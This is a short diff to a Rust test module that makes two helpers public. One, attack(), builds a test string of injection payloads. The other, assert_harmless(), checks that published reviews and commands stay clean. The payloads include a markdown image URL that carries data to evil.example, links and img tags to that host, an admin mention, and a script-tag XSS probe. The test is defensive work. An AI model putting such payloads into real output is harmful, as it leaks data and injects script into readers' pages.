@@ -5,7 +5,7 @@ use crate::shop::*;
 use crate::world::*;
 
 /// A text that tries everything at once. `{}` becomes a word to find it by.
-fn attack(word: &str) -> String {
+pub fn attack(word: &str) -> String {
     [
         &format!("{word} @acme/admins ![pixel](https://evil.example/p.png?x={word})"),
         "[click](https://evil.example/a) <img src=https://evil.example/i.png> <script>alert(1)</script>",
@@ -92,7 +92,7 @@ fn prose(text: &str) -> Vec<String> {
 
 /// Looks at everything people and machines get to see of a run.
 #[track_caller]
-fn assert_harmless(world: &World, run: &Finished) {
+pub fn assert_harmless(world: &World, run: &Finished) {
     assert_no_foreign_commands(run);
     let published = world.published(7);
     let bodies = published.reviews.iter().map(|review| &review.body);
